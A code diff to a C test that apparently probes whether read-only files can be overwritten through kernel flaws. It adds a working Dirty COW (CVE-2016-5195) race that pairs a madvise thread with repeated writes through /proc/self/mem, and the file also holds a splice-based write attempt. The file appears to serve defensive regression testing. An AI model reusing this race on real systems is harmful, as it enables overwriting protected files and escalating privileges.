@@ -3,6 +3,8 @@
 
 #include <errno.h>
 #include <fcntl.h>
+#include <pthread.h>
+#include <stdint.h>
 #include <stdio.h>
 #include <string.h>
 #include <sys/mman.h>
@@ -32,14 +34,40 @@ static void splice_and_write(const char *path) {
     tell(path, "write behind", write(ends[1], "DIRTY", 5));
 }
 
-/// Private pages become nobody else's, shared ones can't be made writable.
+static char *volatile copy;
+static volatile int over;
+
+static void *drop_always(void *nothing) {
+    while (!over) {
+        madvise(copy, 1, MADV_DONTNEED);
+    }
+    return nothing;
+}
+
+/// CVE-2016-5195: a write to a private page, by way of /proc, while the page is dropped and read again.
+static void drop_and_write(const char *path) {
+    int file = open(path, O_RDONLY | O_CLOEXEC), memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
+    copy = mmap(NULL, 1, PROT_READ, MAP_PRIVATE, file, 0);
+    if (copy == MAP_FAILED || memory < 0) {
+        tell(path, "race", -1);
+        return;
+    }
+    pthread_t other;
+    over = 0;
+    pthread_create(&other, NULL, drop_always, NULL);
+    long written = 0;
+    for (int i = 0; i < 20000; i++) {
+        written += pwrite(memory, "DIRTY", 5, (off_t)(uintptr_t)copy) == 5;
+    }
+    over = 1;
+    pthread_join(other, NULL);
+    errno = EIO;
+    tell(path, "race", written > 0 ? 0 : -1);
+}
+
+/// Shared pages can't be made writable.
 static void map_and_write(const char *path) {
     int file = open(path, O_RDONLY | O_CLOEXEC);
-    char *own = mmap(NULL, 1, PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 0);
-    if (own != MAP_FAILED) {
-        memcpy(own, "DIRTY", 5);
-        madvise(own, 1, MADV_DONTNEED); // CVE-2016-5195 raced this
-    }
     char *shared = mmap(NULL, 1, PROT_READ, MAP_SHARED, file, 0);
     tell(path, "mprotect", shared == MAP_FAILED ? -1 : mprotect(shared, 1, PROT_READ | PROT_WRITE));
     tell(path, "map writable", mmap(NULL, 1, PROT_WRITE, MAP_SHARED, file, 0) == MAP_FAILED ? -1 : 0);
@@ -49,6 +77,7 @@ static void map_and_write(const char *path) {
 int dirty(int count, char **paths) {
     for (int i = 0; i < count; i++) {
         splice_and_write(paths[i]);
+        drop_and_write(paths[i]);
         map_and_write(paths[i]);
     }
     return 0;
